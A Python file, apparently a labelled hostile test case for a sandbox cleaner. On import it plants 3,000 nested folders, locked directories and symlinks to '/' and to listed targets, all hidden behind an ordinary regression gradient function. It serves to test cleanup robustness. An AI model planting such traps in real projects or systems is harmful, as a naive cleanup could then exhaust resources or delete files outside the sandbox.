"""Hostile: a sandbox folder that shutil.rmtree cannot remove (issue 10, attack 3).

A chain of 3,000 nested folders (shutil.rmtree recurses once per level and
raises RecursionError), folders made chmod 000 and files read-only, and links
planted for the cleaner to follow: to the folder named in ``targets.txt``,
and to ``/``.  Removing the sandbox must remove the links, never what they
point to.
"""

import os

import numpy as np


def _plant():
    try:
        with open("targets.txt") as handle:
            targets = [*handle.read().split(), "/"]
    except OSError:
        targets = ["/"]
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(3000):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    for index, target in enumerate(targets):
        os.symlink(target, f"link{index}", dir_fd=fd)  # at the bottom of the chain
    os.close(fd)
    for index in range(5):
        os.makedirs(f"locked{index}/inner")
        with open(f"locked{index}/inner/file.txt", "w") as handle:
            handle.write("x")
        for number, target in enumerate(targets):
            os.symlink(target, f"locked{index}/inner/link{number}")
        os.chmod(f"locked{index}/inner/file.txt", 0o400)
        os.chmod(f"locked{index}/inner", 0)
        os.chmod(f"locked{index}", 0o500)
    for index, target in enumerate(targets):
        os.symlink(target, f"link{index}")


try:
    _plant()
except OSError:
    pass


def gradient(X, y, w):
    e = y - (X @ w[1:] + w[0])
    return -np.concatenate([[e.sum()], X.T @ e])
